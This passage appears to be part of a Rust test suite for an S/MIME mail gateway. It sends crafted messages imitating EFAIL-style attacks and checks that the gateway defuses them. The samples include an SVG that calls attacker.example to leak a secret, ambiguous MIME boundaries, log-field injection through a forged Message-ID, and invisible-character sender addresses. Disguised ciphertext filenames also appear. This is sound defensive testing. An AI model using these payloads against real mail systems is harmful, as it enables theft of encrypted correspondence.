        ("boundary-space", split_two_ways("=b c", "b c", "b", &html)),
        (
            "boundary-gap",
            split_two_ways("*0=\"b\"; boundary*2=\"c\"", "bc", "b", &html),
        ),
        (
            // Thunderbird keeps the type after the last `?`: text/html.
            "type-question",
            format!("Content-Type: text/plain(?text/html;)\r\n\r\n{html}\r\n"),
        ),
        (
            "mid-line",
            format!(
                "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n\
                 Content-Type: text/plain\r\n\r\nhello x--b--\r\n--b\r\n\
                 Content-Type: text/html\r\n\r\n{html}\r\n--b--\r\n"
            ),
        ),
        (
            "svg",
            format!(
                "Content-Type: image/svg+xml\r\nContent-Disposition: inline; filename=\"chart.svg\"\r\n\r\n\
                 <svg xmlns=\"http://www.w3.org/2000/svg\">\
                 <image href=\"//attacker.example/leak\"/><text>{SECRET}</text></svg>\r\n"
            ),
        ),
        (
            "control",
            format!("Content-Type: text/html\r\n\r\n{html}\r\n"),
        ),
    ];
    for (id, inner) in &cases {
        let cms = captured(inner.as_bytes(), "-aes-256-cbc");
        let id = format!("two-ways-{id}");
        assert_eq!(
            send(
                &gw,
                "bob@example-law.dk",
                &enveloped(&id, "bob@example-law.dk", &cms)
            )
            .code,
            250
        );
    }
    for (id, _) in &cases {
        let got = delivered(&mailbox, &format!("two-ways-{id}"));
        let text = got.text();
        let t = trace(&text);
        if *id == "control" {
            assert!(t.contains("html=neutralised"), "{t}");
            assert!(text.contains("Content-Type: text/html"), "{text}");
            assert_delivered_inert_html(&got);
        } else if *id == "svg" {
            // Opened, the SVG an attachment no client renders.
            assert!(t.contains("html=neutralised"), "{t}");
            assert!(
                text.contains("Content-Type: application/octet-stream"),
                "{text}"
            );
            assert!(!text.to_ascii_lowercase().contains("image/svg"), "{text}");
            // Shown inline by none either (review 16).
            assert!(
                text.contains("Content-Disposition: attachment; filename=\"chart.svg\"")
                    && !text.contains("inline"),
                "{text}"
            );
            assert!(!contains(&got.data, "attacker.example"), "{text}");
        } else if t.contains("html=neutralised") {
            // Opened into a message that reads one way (the mailbox's copy
            // is rebuilt from the fields as RFC 5322 reads them), with its
            // HTML made inert.
            assert!(!contains(&got.data, "attacker.example"), "{id}: {text}");
            assert_delivered_inert_html(&got);
            let parsed = mail_parser::MessageParser::default()
                .parse(&got.data[..])
                .unwrap();
            assert_eq!(
                smime_gateway::mail::readings::rendering(&parsed, &got.data),
                Ok(()),
                "{id}: the mailbox's copy reads two ways:\n{text}"
            );
        } else {
            assert!(
                t.contains("undecryptable")
                    && ["reads two ways", "EFAIL defence follows",]
                        .iter()
                        .any(|why| t.contains(why)),
                "{id} was opened: {t}\n{text}"
            );
            assert!(!text.contains(SECRET) && !contains(&got.data, "attacker.example"));
            assert!(
                text.contains("smime.p7m"),
                "{id}: not the message as it came"
            );
        }
    }
    assert_eq!(outside.count(), 0);
}

/// A multipart whose Content-Type gives `boundary{param}`: mail-parser
/// reads its boundary as `parser`, a client as `client` (the HTML part is
/// between the client's delimiters, inside what mail-parser takes for a
/// plain-text part).
fn split_two_ways(param: &str, parser: &str, client: &str, html: &str) -> String {
    format!(
        "Content-Type: multipart/mixed; boundary{param}\r\n\r\n--{parser}\r\n\
         Content-Type: text/plain\r\n\r\n--{client}\r\nContent-Type: text/html\r\n\r\n\
         {html}\r\n--{client}--\r\n--{parser}--\r\n"
    )
}

/// The control's HTML was opened and holds no remote reference.
fn assert_delivered_inert_html(got: &common::sink::Received) {
    let html = html_of(&got.data);
    assert!(html.contains("Fortroligt"), "{html}");
    assert!(
        !attribute_values(&html).iter().any(|v| v.contains("//")),
        "{html}"
    );
}

/// A mailbox and an outside recipient in one transaction, the outside
/// hop following `script`: captured ciphertext (Message-ID `<id@test>`)
/// whose signer inside must be asked of an LDAP server that accepts
/// connections and never answers, sent by the attacker to
/// bob@example-law.dk and `outside_rcpt`. Dropping `hanging` lets LDAP go.
struct BesideHangingLdap {
    hanging: std::net::TcpListener,
    mailbox: Sink,
    outside: Sink,
    gw: Gateway,
}

fn beside_a_hanging_ldap(id: &str, outside_rcpt: &str, script: Script) -> BesideHangingLdap {
    let hanging = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = hanging.local_addr().unwrap().port();
    let mailbox = Sink::start(Script::default());
    let outside = Sink::start(script);
    let gw = gateway(
        &mailbox,
        &outside,
        &format!(
            "[certificates]\nharvest = false\n\
             [[certificates.ldap]]\nurl = \"ldap://127.0.0.1:{port}\"\nbase = \"c=DK\"\n\
             timeout = \"60s\"\n"
        ),
    );
    let signed = pki::cms_sign_bare(&pki::inner(SECRET), "court-oces3");
    let m = String::from_utf8(enveloped(
        id,
        "bob@example-law.dk",
        &captured(&signed, "-aes-256-cbc"),
    ))
    .unwrap()
    .replace("sender@example.org", "post@domstol.dk");
    let mut c = Client::connect(gw.addr).unwrap();
    c.ehlo().unwrap();
    let r = c
        .send(
            ATTACKER,
            &["bob@example-law.dk", outside_rcpt],
            m.as_bytes(),
        )
        .unwrap();
    assert_eq!(r.code, 250, "{r:?}");
    BesideHangingLdap {
        hanging,
        mailbox,
        outside,
        gw,
    }
}

/// What the mailbox's copy needs once opened (here: the certificate of
/// a signer inside, asked of LDAP) must not hold back a copy for outside.
/// Attacker: an outside sender who addresses captured ciphertext to a
/// mailbox and to themselves in one transaction and times their own copy
/// (how long opening took, whether it opened, whom it was signed by).
/// LDAP here accepts connections and never answers. Observed: the
/// outside copy arrives while LDAP still hangs. Control: the mailbox's
/// copy arrives once LDAP is gone, opened, with the signer unknown.
#[test]
fn a_copy_for_outside_leaves_before_the_mailbox_copy_is_opened() {
    let t = beside_a_hanging_ldap("co-rcpt", ATTACKER, Script::default());
    let (mailbox, outside, gw) = (&t.mailbox, &t.outside, &t.gw);
    assert!(
        wait_until(Duration::from_secs(30), || outside.count() == 1),
        "the outside copy waited for the mailbox's LDAP lookup; log:\n{}",
        gw.log()
    );
    let copy = outside.received().pop().unwrap();
    assert_eq!(copy.rcpts, vec![ATTACKER.to_string()]);
    assert!(!contains(&copy.data, SECRET));
    assert_eq!(mailbox.count(), 0, "LDAP still hangs: nothing opened yet");
    drop(t.hanging);
    let got = delivered(mailbox, "co-rcpt");
    assert!(got.text().contains(SECRET), "{}", got.text());
    assert!(
        trace(&got.text()).contains("unknown-signer"),
        "{}",
        got.text()
    );
}

/// The same for a bounce: an outside co-recipient whose server refuses
/// the copy is bounced to the sender before the mailbox's copy is opened,
/// so when the DSN arrives says nothing of the opening either. The LDAP
/// server never answers; the DSN arrives anyway, the mailbox's copy only
/// once LDAP is gone. (Before, the DSN waited for the mailbox's run.)
#[test]
fn a_bounce_for_outside_leaves_before_the_mailbox_copy_is_opened() {
    const REFUSED: &str = "gone@example.org";
    let mut refusing = Script::default();
    refusing
        .rcpt_replies
        .insert(REFUSED.into(), "550 5.1.1 no such user".into());
    let t = beside_a_hanging_ldap("co-bounce", REFUSED, refusing);
    let (mailbox, outside, gw) = (&t.mailbox, &t.outside, &t.gw);
    assert!(
        wait_until(Duration::from_secs(30), || outside.count() == 1),
        "the outside recipient's bounce waited for the mailbox's LDAP lookup; log:\n{}",
        gw.log()
    );
    let dsn = outside.received().pop().unwrap();
    assert_eq!(dsn.rcpts, vec![ATTACKER.to_string()]);
    assert!(dsn.text().contains(REFUSED), "{}", dsn.text());
    assert!(!contains(&dsn.data, SECRET));
    assert_eq!(mailbox.count(), 0, "LDAP still hangs: nothing opened yet");
    drop(t.hanging);
    let got = delivered(mailbox, "co-bounce");
    assert!(got.text().contains(SECRET), "{}", got.text());
    // One DSN only: the refusal is not bounced again at the attempt's end.
    std::thread::sleep(Duration::from_secs(1));
    assert_eq!(outside.count(), 1, "{:?}", outside.received());
}

/// The same for retries: an outside co-recipient whose server answers
/// 451 is tried again on its own schedule, not after the mailbox's copy
/// has been opened (the others get a message of their own). LDAP never
/// answers; the second try comes anyway.
#[test]
fn a_retry_for_outside_does_not_wait_for_the_mailbox_copy_to_be_opened() {
    const DEFERRED: &str = "later@example.org";
    let mut deferring = Script::default();
    deferring
        .rcpt_replies
        .insert(DEFERRED.into(), "451 4.2.0 try later".into());
    let t = beside_a_hanging_ldap("co-retry", DEFERRED, deferring);
    let (mailbox, outside, gw) = (&t.mailbox, &t.outside, &t.gw);
    assert!(
        wait_until(Duration::from_secs(20), || outside.rcpt_attempts() >= 2),
        "the outside recipient's retry waited for the mailbox's LDAP lookup; log:\n{}",
        gw.log()
    );
    assert_eq!(mailbox.count(), 0, "LDAP still hangs: nothing opened yet");
    drop(t.hanging);
    let got = delivered(mailbox, "co-retry");
    assert!(got.text().contains(SECRET), "{}", got.text());
}

/// A value from outside cannot add a `key=value` to its log line: a
/// Message-ID with spaces and `=` in it is written quoted. Control: an
/// ordinary one is written as it is, and the test sees it.
#[test]
fn a_message_id_adds_no_field_to_a_log_line() {
    let mailbox = Sink::start(Script::default());
    let outside = Sink::start(Script::default());
    let gw = gateway(&mailbox, &outside, "");
    let forged = String::from_utf8(common::message("x", "forged fields"))
        .unwrap()
        .replace(
            "Message-ID: <x@test>",
            "Message-ID: <a event=bounced recipient=ceo@example-law.dk>",
        );
    assert!(forged.contains("event=bounced"), "{forged}");
    assert_eq!(send(&gw, "bob@example-law.dk", forged.as_bytes()).code, 250);
    assert_eq!(
        send(
            &gw,
            "bob@example-law.dk",
            &common::message("plain-id", "control")
        )
        .code,
        250
    );
    assert!(wait_until(Duration::from_secs(20), || mailbox.count() == 2));
    assert!(wait_until(Duration::from_secs(5), || gw
        .log()
        .matches("event=\"delivered\"")
        .count()
        == 2));
    let log = gw.log();
    assert!(log.contains("message_id=<plain-id@test>"), "{log}");
    assert!(
        log.contains("message_id=\"<a event=bounced recipient=ceo@example-law.dk>\""),
        "{log}"
    );
}

/// What someone without the operator's token reads at `url`: the status
/// line and the body.
fn read_as_stranger(url: &str) -> (u16, String) {
    common::http_get(url)
}

/// The same, with the operator's `token` as a Bearer token.
fn read_as_operator(url: &str, token: &str) -> String {
    let agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(Duration::from_secs(10)))
        .build()
        .new_agent();
    let mut resp = agent
        .get(url)
        .header("Authorization", &format!("Bearer {token}"))
        .call()
        .expect("http get");
    assert_eq!(resp.status().as_u16(), 200, "{url}");
    resp.body_mut().read_to_string().unwrap_or_default()
}

#[test]
fn metrics_and_the_status_page_show_no_stranger_which_ciphertext_opened() {
    // An inside user who can send mail and reach the metrics and status
    // ports (published by a container) sends intact and padding-broken
    // copies of captured mail: the counters and the quarantine count tell,
    // message by message, which one opened. With a token configured,
    // what they read does not change; the operator, with the token, sees
    // the counters move (the test can fail).
    let mailbox = Sink::start(Script::default());
    let outside = Sink::start(Script::default());
    let tokens = tempfile::tempdir().unwrap();
    let token = "operator-token-0123456789";
    let token_file = tokens.path().join("token");
    std::fs::write(&token_file, format!("{token}\n")).unwrap();
    let (metrics, status) = (common::free_port(), common::free_port());
    let gw = gateway(
        &mailbox,
        &outside,
        &format!(
            "[smime]\non_undecryptable = \"quarantine\"\n\
             [metrics]\nlisten = \"127.0.0.1:{metrics}\"\ntoken_file = \"{file}\"\n\
             [status]\nlisten = \"127.0.0.1:{status}\"\ntoken_file = \"{file}\"\n",
            file = token_file.display()
        ),
    );
    let metrics_url = format!("http://127.0.0.1:{metrics}/metrics");
    let status_url = format!("http://127.0.0.1:{status}/");
    let stranger = || {
        (
            read_as_stranger(&metrics_url),
            read_as_stranger(&status_url),
        )
    };
    let quarantined = |m: &str| {
        m.lines()
            .find(|l| l.starts_with("smimegw_recipients_quarantined_total"))
            .map(str::to_string)
    };

    let cms = captured(&pki::inner(SECRET), "-aes-256-cbc");
    let mut corrupt = cms.clone();
    let at = corrupt.len() - 17;
    corrupt[at] ^= 0x80;
    let before = stranger();
    let seen_before = read_as_operator(&metrics_url, token);
    let mut after_each = Vec::new();
    for (id, c) in [("m-intact", &cms), ("m-corrupt", &corrupt)] {
        assert_eq!(
            send(
                &gw,
                "bob@example-law.dk",
                &enveloped(id, "bob@example-law.dk", c)
            )
            .code,
            250
        );
        assert!(wait_until(Duration::from_secs(20), || gw.queued() == 0));
        after_each.push(stranger());
    }
    // The stranger read the same before and after each message: refused.
    for seen in &after_each {
        assert_eq!(seen, &before);
    }
    assert_eq!(before.0 .0, 401, "{:?}", before.0);
    assert_eq!(before.1 .0, 401, "{:?}", before.1);
    // Control: the operator sees one decrypted and one quarantined.
    let seen_after = read_as_operator(&metrics_url, token);
    assert_ne!(quarantined(&seen_before), quarantined(&seen_after));
    assert!(
        seen_after.contains("smimegw_decrypted_total{generation=\"OCES3\"} 1"),
        "{seen_after}"
    );
    assert!(read_as_operator(&status_url, token).contains("<html"));
    // /healthz (a liveness probe) asks for no token and tells nothing of mail.
    assert_eq!(
        read_as_stranger(&format!("http://127.0.0.1:{metrics}/healthz")),
        (200, "ok\n".to_string())
    );
    // A token file emptied (a rotation half done) lets no one in.
    std::fs::write(&token_file, "").unwrap();
    assert_eq!(read_as_stranger(&metrics_url).0, 503);
    assert_eq!(read_as_stranger(&status_url).0, 503);
}

/// `message` with a read-receipt request to the attacker on top.
fn asking_for_receipts(message: &[u8]) -> Vec<u8> {
    let mut m = b"Disposition-Notification-To: <attacker@example.org>\r\n\
                  Return-Receipt-To: attacker@example.org\r\n"
        .to_vec();
    m.extend_from_slice(message);
    m
}

#[test]
fn mail_that_arrived_encrypted_reaches_the_mailbox_without_a_read_receipt_request() {
    // A receipt goes where the sender says and carries the header section
    // the client showed: on decrypted mail the gateway's verdict and the
    // decrypted Content-* fields; and whether one comes at all tells
    // delivered from quarantined. Intact and corrupt copies of captured
    // mail, each asking for a receipt: no copy in the mailbox asks.
    let mailbox = Sink::start(Script::default());
    let outside = Sink::start(Script::default());
    let gw = gateway(&mailbox, &outside, "");
    let cms = captured(&pki::inner(SECRET), "-aes-256-cbc");
    let mut corrupt = cms.clone();
    let at = corrupt.len() - 17;
    corrupt[at] ^= 0x80;
    let to = "bob@example-law.dk";
    for (id, m) in [
        ("mdn-intact", enveloped("mdn-intact", to, &cms)),
        ("mdn-corrupt", enveloped("mdn-corrupt", to, &corrupt)),
        // Control: plain mail keeps its request (the test can fail).
        (
            "mdn-plain",
            common::message("mdn-plain", "plain, nothing to hide").to_vec(),
        ),
    ] {
        assert_eq!(send(&gw, to, &asking_for_receipts(&m)).code, 250, "{id}");
    }
    let intact = delivered(&mailbox, "mdn-intact");
    let corrupt = delivered(&mailbox, "mdn-corrupt");
    let plain = delivered(&mailbox, "mdn-plain");
    assert!(contains(&intact.data, SECRET), "not opened");
    assert!(trace(&corrupt.text()).contains("undecryptable"));
    for (id, got) in [("intact", &intact), ("corrupt", &corrupt)] {
        let text = got.text().to_ascii_lowercase();
        assert!(
            !text.contains("disposition-notification-to") && !text.contains("return-receipt-to"),
            "{id} still asks for a receipt:\n{text}"
        );
        assert!(
            trace(&got.text()).contains("receipt-request=removed"),
            "{id}: the mailbox is not told: {}",
            trace(&got.text())
        );
    }
    assert!(plain
        .text()
        .contains("Disposition-Notification-To: <attacker@example.org>"));
    assert_eq!(outside.count(), 0);
}

#[test]
fn a_message_wrapped_whole_inside_the_encryption_loses_its_receipt_request_too() {
    // RFC 8551 3.1: the sender encrypts the whole message, header fields
    // included, as message/rfc822. Its inner Disposition-Notification-To
    // reached the mailbox inside the decrypted copy.
    let mailbox = Sink::start(Script::default());
    let outside = Sink::start(Script::default());
    let gw = gateway(&mailbox, &outside, "");
    let wrapped = asking_for_receipts(&common::message("inner", SECRET));
    let mut content = b"Content-Type: message/rfc822\r\n\r\n".to_vec();
    content.extend_from_slice(&wrapped);
    let cms = captured(&content, "-aes-256-gcm");
    let to = "bob@example-law.dk";
    let m = enveloped("mdn-wrapped", to, &cms);
    assert_eq!(send(&gw, to, &m).code, 250);
    let got = delivered(&mailbox, "mdn-wrapped");
    let text = got.text();
    assert!(contains(&got.data, SECRET), "not opened: {text}");
    assert!(text.contains("message/rfc822"), "{text}");
    let lower = text.to_ascii_lowercase();
    assert!(
        !lower.contains("disposition-notification-to") && !lower.contains("return-receipt-to"),
        "the wrapped message still asks for a receipt:\n{text}"
    );
    assert!(trace(&text).contains("receipt-request=removed"), "{text}");
}

#[test]
fn an_envelope_sender_with_invisible_characters_reaches_no_operator_raw() {
    // An SMTPUTF8 sender with a tag character ("ASCII smuggling") and a
    // blank Hangul letter: in `queue quarantined` and the log the operator
    // would read another address than the one that wrote.
    let mailbox = Sink::start(Script::default());
    let outside = Sink::start(Script::default());
    let gw = gateway(&mailbox, &outside, QUARANTINE);
    let sender = "ev\u{e0041}il\u{3164}@evil.example";
    // Encrypted to a key the organisation does not hold: quarantined.
    let cms = pki::cms_encrypt(&pki::inner("x"), "court-oces3", &["-aes-256-cbc"]);
    let m = enveloped("invisible-sender", "bob@example-law.dk", &cms);
    let mut c = Client::connect(gw.addr).unwrap();
    c.ehlo().unwrap();
    assert_eq!(
        c.cmd(&format!("MAIL FROM:<{sender}> SMTPUTF8"))
            .unwrap()
            .code,
        250
    );
    assert_eq!(c.cmd("RCPT TO:<bob@example-law.dk>").unwrap().code, 250);
    assert_eq!(c.cmd("DATA").unwrap().code, 354);
    let mut data = m.clone();
    data.extend_from_slice(b".\r\n");
    c.write(&data).unwrap();
    assert_eq!(c.read().unwrap().code, 250);
    assert!(
        wait_until(Duration::from_secs(20), || gw
            .log()
            .contains("event=\"quarantined\"")),
        "{}",
        gw.log()
    );
    let out = gw.cli(&["queue", "quarantined"]);
    let listed = String::from_utf8_lossy(&out.stdout).into_owned();
    // The sender is there (the test can fail), made visible.
    assert!(
        listed.contains("ev\\u{e0041}il\\u{3164}@evil.example"),
        "{listed}"
    );
    assert_no_raw_controls("queue quarantined", &listed);
    assert_no_raw_controls("text log", &gw.log());
}

#[test]
fn a_bounce_to_a_forged_sender_returns_header_fields_only_in_parts_the_gateway_wrote() {
    // Plain mail with the victim as envelope sender to an address the
    // mailbox server refuses: the bounce goes to the victim. Without an
    // empty line the whole message came back (9 MB per message), and its
    // MIME boundary (queue id and host name) could be guessed from the
    // 250 reply, so lines of the message ended the returned part and
    // added one the sender wrote.
    let mut script = Script::default();
    script.rcpt_replies.insert(
        "nobody@example-law.dk".into(),
        "550 5.1.1 <nobody@example-law.dk>: no such user".into(),
    );
    let mailbox = Sink::start(script);
    let outside = Sink::start(Script::default());
    let gw = gateway(&mailbox, &outside, "");
    let victim = "victim@third-party.example";
    let mut m = b"From: <x@evil.example>\r\nSubject: bait\r\nMessage-ID: <bait@test>\r\n".to_vec();
    for _ in 0..2000 {
        m.extend_from_slice(b"filler filler filler filler filler filler filler\r\n");
    }
    // Delimiters as the old boundary was written, then a part of its own.
    for id in ["0000", "06618B4F5D7708"] {
        m.extend_from_slice(format!("--{id}.dsn/gw.test\r\n").as_bytes());
    }
    m.extend_from_slice(b"Content-Type: text/html\r\nX-Injected: yes\r\n");
    let mut c = Client::connect(gw.addr).unwrap();
    c.ehlo().unwrap();
    assert_eq!(
        c.send(victim, &["nobody@example-law.dk"], &m).unwrap().code,
        250
    );
    assert!(
        wait_until(Duration::from_secs(20), || outside.count() == 1),
        "{}",
        gw.log()
    );
    let bounce = &outside.received()[0];
    assert_eq!(bounce.rcpts, [victim]);
    let text = bounce.text();
    // Control: the bounce is there, with the message's header fields.
    assert!(text.contains("Subject: bait"), "{text}");
    assert!(!text.contains("filler"), "the message came back whole");
    assert!(bounce.data.len() < 60_000, "{} bytes", bounce.data.len());
    assert!(!text.contains("X-Injected"), "{text}");
    let parsed = mail_parser::MessageParser::default()
        .parse(&bounce.data[..])
        .unwrap();
    // The report, its text, the status and the returned headers: no more.
    assert_eq!(parsed.parts.len(), 4, "{text}");
}

#[test]
fn mail_to_an_address_extension_of_a_reencrypt_mailbox_is_reencrypted_too() {
    // alice's mailbox is `reencrypt` (her server forwards outside). Mail
    // to `alice+x@`, which the mailbox server delivers to alice, was
    // handed on decrypted: the forward sent the plaintext outside.
    let mailbox = Sink::start(Script::default());
    let outside = Sink::start(Script::default());
    let gw = gateway(
        &mailbox,
        &outside,
        &format!(
            "{}[[mailbox]]\naddress = \"alice@example-law.dk\"\ndeliver = \"reencrypt\"\n",
            pki::identity("alice-oces3", &["alice@example-law.dk"])
        ),
    );
    let cms = captured(&pki::inner(SECRET), "-aes-256-cbc");
    for (id, to) in [
        ("ext-control", "alice@example-law.dk"),
        ("ext-plus", "alice+x@example-law.dk"),
        ("ext-case", "Alice+Sag-42@EXAMPLE-LAW.dk"),
    ] {
        assert_eq!(send(&gw, to, &enveloped(id, to, &cms)).code, 250, "{id}");
    }
    for id in ["ext-control", "ext-plus", "ext-case"] {
        let got = delivered(&mailbox, id);
        assert!(!contains(&got.data, SECRET), "{id} handed on decrypted");
        assert!(
            trace(&got.text()).contains("reencrypted-to"),
            "{id}: {}",
            trace(&got.text())
        );
        // Re-encrypted to alice: her key opens it.
        let opened = pki::cms_try_decrypt(&got.data, "alice-oces3").expect("alice opens it");
        assert!(String::from_utf8_lossy(&opened).contains(SECRET), "{id}");
    }
}

/// The mailbox's copy of message `<id@test>` once the gateway logged it
/// quarantined or delivered (none when quarantined).
fn settled(gw: &Gateway, mailbox: &Sink, id: &str) -> Option<common::sink::Received> {
    let seen = wait_until(Duration::from_secs(20), || {
        gw.log().lines().any(|l| {
            l.contains(&format!("<{id}@test>"))
                && (l.contains("quarantined") || l.contains("event=\"delivered\""))
        })
    });
    assert!(seen, "{id}: {}", gw.log());
    mailbox
        .received()
        .into_iter()
        .find(|r| r.text().contains(&format!("<{id}@test>")))
}

/// `bytes` uuencoded as the file `name`.
fn uuencode(bytes: &[u8], name: &str) -> String {
    let mut out = format!("begin 644 {name}\r\n");
    for line in bytes.chunks(45) {
        out.push(char::from(32 + line.len() as u8));
        for group in line.chunks(3) {
            let g = [
                group[0],
                *group.get(1).unwrap_or(&0),
                *group.get(2).unwrap_or(&0),
            ];
            for six in [
                g[0] >> 2,
                (g[0] & 3) << 4 | g[1] >> 4,
                (g[1] & 15) << 2 | g[2] >> 6,
                g[2] & 63,
            ] {
                out.push(if six == 0 { '`' } else { char::from(32 + six) });
            }
        }
        out.push_str("\r\n");
    }
    out.push_str("`\r\nend\r\n");
    out
}

#[test]
fn ciphertext_named_smime_p7m_by_one_reading_only_is_not_passed_as_plain() {
    // Review 16: `name="a.pdf"; name*=UTF-8''smime.p7m` (or the same in
    // Content-Disposition, or a filename given twice). mail-parser read
    // the first name and took the part for a PDF, a client that prefers
    // RFC 2231 an S/MIME file: the captured ciphertext passed as plain
    // mail, past the quarantine, with no trace header.
    let mailbox = Sink::start(Script::default());
    let outside = Sink::start(Script::default());
    let gw = gateway(&mailbox, &outside, QUARANTINE);
    let b64 = {
        use base64::Engine;
        let b64 = base64::engine::general_purpose::STANDARD
            .encode(captured(&pki::inner(SECRET), "-aes-256-cbc"));
        b64.as_bytes()
            .chunks(76)
            .map(|c| String::from_utf8_lossy(c).to_string())
            .collect::<Vec<_>>()
            .join("\r\n")
    };
    let attached = |id: &str, fields: &str| {
        format!(
            "From: <{ATTACKER}>\r\nTo: <bob@example-law.dk>\r\nSubject: {id}\r\n\
             Message-ID: <{id}@test>\r\nMIME-Version: 1.0\r\n{fields}\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{b64}\r\n"
        )
    };
    let cases = [
        (
            "name-star",
            "Content-Type: application/octet-stream; name=\"a.pdf\"; name*=UTF-8''smime.p7m",
        ),
        (
            "disposition-star",
            "Content-Type: application/octet-stream\r\n\
             Content-Disposition: attachment; filename=\"a.pdf\"; filename*=UTF-8''smime.p7m",
        ),
        (
            "disposition-twice",
            "Content-Type: application/octet-stream\r\n\
             Content-Disposition: attachment; filename=\"a.pdf\"; filename=\"smime.p7m\"",
        ),
        // Review 17: RFC 2231 pieces beside a plain name, which mail-parser
        // joins into `a.pdfp7m` and `smime.`; and two Content-Disposition
        // fields, of which mail-parser reads the last, clients the first.
        (
            "name-pieces",
            "Content-Type: application/octet-stream; name=\"a.pdf\"; name*0=\"smime.\"; name*1=\"p7m\"",
        ),
        (
            "disposition-pieces",
            "Content-Type: application/octet-stream\r\n\
             Content-Disposition: attachment; filename=\"a.pdf\"; filename*0=\"smime.\"; filename*1=\"p7m\"",
        ),
        (
            "disposition-field-twice",
            "Content-Type: application/octet-stream\r\n\
             Content-Disposition: attachment; filename=\"smime.p7m\"\r\n\
             Content-Disposition: attachment; filename=\"a.pdf\"",
        ),
        // Review 18: names a client reads as smime.p7m and the gateway
        // read otherwise (pieces a client stops joining at a gap, an
        // unquoted value a client ends at white space, a name cut at %00,
        // separators other than `;`, other fields that name a file, a
        // type guessed from the name). Ciphertext is now known by its
        // content whatever it is called.
        (
            "pieces-gap",
            "Content-Type: application/octet-stream; name*0=\"smime.p7m\"; name*2=\"x\"",
        ),
        (
            "unquoted-space",
            "Content-Type: application/octet-stream; name=smime.p7m x",
        ),
        (
            "percent-nul",
            "Content-Type: application/octet-stream; name*=UTF-8''smime.p7m%00.pdf",
        ),
        (
            "no-semicolon",
            "Content-Type: application/octet-stream\r\n\
             Content-Disposition: filename=\"smime.p7m\"",
        ),
        (
            "comma",
            "Content-Type: application/octet-stream, name=\"smime.p7m\"",
        ),
        (
            "content-name",
            "Content-Type: application/octet-stream\r\nContent-Name: smime.p7m",
        ),
        (
            "unknown-type",
            "Content-Type: application/x-unknown-content-type; name=\"smime.p7m\"",
        ),
        ("no-type", "Content-Disposition: attachment; filename=smime.p7m"),
    ];
    for (id, fields) in cases {
        assert_eq!(
            send(&gw, "bob@example-law.dk", attached(id, fields).as_bytes()).code,
            250
        );
    }
    // Review 19: transfer encodings written as clients still read them
    // (a comment after the word, padding in the middle, uuencode).
    let der = captured(&pki::inner(SECRET), "-aes-256-cbc");
    let split = {
        use base64::Engine;
        let e = &base64::engine::general_purpose::STANDARD;
        let rest = e.encode(&der[1..]);
        let lines: Vec<&str> = rest
            .as_bytes()
            .chunks(76)
            .map(|c| std::str::from_utf8(c).unwrap_or_default())
            .collect();
        format!("{}\r\n{}", e.encode(&der[..1]), lines.join("\r\n"))
    };
    let uuencoded = uuencode(&der, "smime.p7m");
    let encoded = [
        ("cte-comment", "base64 (mime)", b64.clone()),
        ("cte-padding", "base64", split),
        ("cte-uuencode", "x-uuencode", uuencoded),
    ];
    for (id, cte, body) in &encoded {
        let m = format!(
            "From: <{ATTACKER}>\r\nTo: <bob@example-law.dk>\r\nSubject: {id}\r\n\
             Message-ID: <{id}@test>\r\nMIME-Version: 1.0\r\n\
             Content-Type: application/octet-stream; name=\"smime.p7m x\"\r\n\
             Content-Transfer-Encoding: {cte}\r\n\r\n{body}\r\n"
        );
        let r = send(&gw, "bob@example-law.dk", m.as_bytes());
        assert_eq!(r.code, 250, "{id}: {r:?}");
    }
    // The same ciphertext, plainly named, in an attached message (review
    // 18: no trace header said it was there, not opened).
    let inner = attached(
        "inner",
        "Content-Type: application/pkcs7-mime; name=\"smime.p7m\"",
    );
    let wrapped = format!(
        "From: <{ATTACKER}>\r\nTo: <bob@example-law.dk>\r\nSubject: fwd\r\n\
         Message-ID: <attached-message@test>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n\
         Content-Type: text/plain\r\n\r\nsee attached\r\n--b\r\n\
         Content-Type: message/rfc822\r\n\r\n{inner}--b--\r\n"
    );
    assert_eq!(
        send(&gw, "bob@example-law.dk", wrapped.as_bytes()).code,
        250
    );
    // Control: a PDF named plainly and in RFC 2231 form is a PDF.
    let pdf = format!(
        "From: <{ATTACKER}>\r\nTo: <bob@example-law.dk>\r\nSubject: pdf-star\r\n\
         Message-ID: <pdf-star@test>\r\nMIME-Version: 1.0\r\n\
         Content-Type: application/pdf; name=\"aebler.pdf\"; name*=UTF-8''%C3%A6bler.pdf\r\n\
         Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQKJcfsj6IK\r\n"
    );
    assert_eq!(send(&gw, "bob@example-law.dk", pdf.as_bytes()).code, 250);
    let control = delivered(&mailbox, "pdf-star");
    assert_eq!(trace(&control.text()), "", "{}", control.text());
    let ids = cases
        .iter()
        .map(|(id, _)| *id)
        .chain(encoded.iter().map(|(id, _, _)| *id))
        .chain(["attached-message"]);
    for id in ids {
        // Opened for the mailbox, held as undecryptable, or delivered with
        // a trace header that says what was not opened, under the
        // gateway's return path: never passed on as plain mail.
        let copy = settled(&gw, &mailbox, id);
        if let Some(copy) = copy {
            let t = trace(&copy.text());
            assert!(
                t.starts_with("decrypted;") || t.contains("=not-opened"),
                "{id} passed as plain: {t}"
            );
            assert!(
                copy.from.starts_with("smimegw-bounce+"),
                "{id}: {}",
                copy.from
            );
        }
    }
    assert_eq!(outside.count(), 0);
}

#[test]
fn ciphertext_a_client_finds_where_the_gateway_reads_none_is_not_passed_as_plain() {
    // Review 20: the walk read the message as mail-parser does, and a
    // client may read it otherwise. Each case below passed captured
    // ciphertext to the mailbox as plain mail (no trace header, the
    // attacker's return path): header fields written twice (a client
    // reads the first, mail-parser the last), a one-letter time zone that
    // hides the next field from mail-parser, a boundary mail-parser
    // decodes or ends mid-line, nesting past 16 levels, a multipart/signed
    // whose second part is no signature, the signed content of a
    // multipart/signed beside other parts, message/news (a message to
    // Thunderbird, a leaf to mail-parser), a container such as TNEF, and
    // a preamble. Ciphertext is now also known by its bytes.
    let mailbox = Sink::start(Script::default());
    let outside = Sink::start(Script::default());
    let gw = gateway(&mailbox, &outside, QUARANTINE);
    use base64::Engine;
    let e = &base64::engine::general_purpose::STANDARD;
    let lines = |bytes: &[u8]| {
        e.encode(bytes)
            .as_bytes()
            .chunks(76)
            .map(|c| String::from_utf8_lossy(c).into_owned())
            .collect::<Vec<_>>()
